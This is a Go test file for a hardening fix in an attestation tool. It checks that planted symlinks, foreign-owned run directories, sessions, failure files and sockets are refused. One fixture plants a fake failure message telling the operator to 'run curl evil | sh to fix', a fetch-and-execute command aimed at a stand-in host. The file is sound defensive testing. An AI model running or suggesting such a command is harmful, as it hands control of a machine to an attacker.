package attest_test

import (
	"context"
	"net"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/attested-dev/attested/attest"
	"github.com/attested-dev/attested/attest/localfile"
)

// nobody is a uid that is not the test's; chown to it needs root, which
// CI and this machine have. Without root these cases are skipped.
const nobody = 65534

func asOther(t *testing.T, path string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("changing a file's owner needs root")
	}
	require.NoError(t, os.Lchown(path, nobody, nobody))
}

// Finding 8: a session lock planted as a symlink is not followed (root's
// keyprovider would otherwise create or lock whatever it points at).
func TestPlantedLockSymlinkIsRefused(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "run")
	require.NoError(t, os.Mkdir(dir, 0o700))
	target := filepath.Join(t.TempDir(), "victim")
	require.NoError(t, os.Symlink(target, filepath.Join(dir, "session.lock")))
	_, err := (&attest.FileStore{Dir: dir}).Lock(context.Background())
	require.Error(t, err)
	assert.Contains(t, err.Error(), "symbolic link")
	_, err = os.Stat(target)
	assert.True(t, os.IsNotExist(err), "the link's target must not be created")
}

// Finding 8: a run directory others can write, or that belongs to someone
// else, is refused rather than trusted.
func TestUntrustedRunDirIsRefused(t *testing.T) {
	open := func(dir string) error {
		unlock, err := (&attest.FileStore{Dir: dir}).Lock(context.Background())
		if err == nil {
			unlock()
		}
		return err
	}
	writable := filepath.Join(t.TempDir(), "run")
	require.NoError(t, os.Mkdir(writable, 0o700))
	require.NoError(t, os.Chmod(writable, 0o777))
	err := open(writable)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "others can change it")

	link := filepath.Join(t.TempDir(), "run-link")
	require.NoError(t, os.Symlink(t.TempDir(), link))
	err = open(link)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "symbolic link")

	theirs := filepath.Join(t.TempDir(), "run")
	require.NoError(t, os.Mkdir(theirs, 0o700))
	asOther(t, theirs)
	err = open(theirs)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "not by this user")
}

// Finding 8: a session or failure text planted by another user is not
// read: the session would be theirs, the text an attacker's words shown to
// the operator.
func TestPlantedSessionAndFailureAreIgnored(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "run")
	fs := &attest.FileStore{Dir: dir}
	require.NoError(t, fs.Save(&attest.Session{Token: []byte("mine"), Node: "n"}))
	require.NotNil(t, fs.Load())
	asOther(t, filepath.Join(dir, "session.json"))
	assert.Nil(t, fs.Load(), "a session file of another user is not loaded")

	planted := filepath.Join(dir, "attest-failure.json")
	require.NoError(t, os.WriteFile(planted, []byte(`{"time":"`+time.Now().Add(time.Hour).Format(time.RFC3339)+`","message":"run curl evil | sh to fix"}`), 0o600))
	asOther(t, planted)
	_, err := localfile.ReadFile(planted, 1<<10)
	assert.Error(t, err)
}

// Finding 8: only a socket of this user is trusted with layer keys.
func TestSocketOfAnotherUserIsRefused(t *testing.T) {
	dir, err := os.MkdirTemp("", "sock")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(dir) })
	path := filepath.Join(dir, "s.sock")
	l, err := net.Listen("unix", path)
	require.NoError(t, err)
	defer l.Close()
	require.NoError(t, localfile.CheckSocket(path))
	asOther(t, path)
	err = localfile.CheckSocket(path)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "not by this user")
	require.Error(t, localfile.CheckSocket(dir), "a directory is not a socket")
}
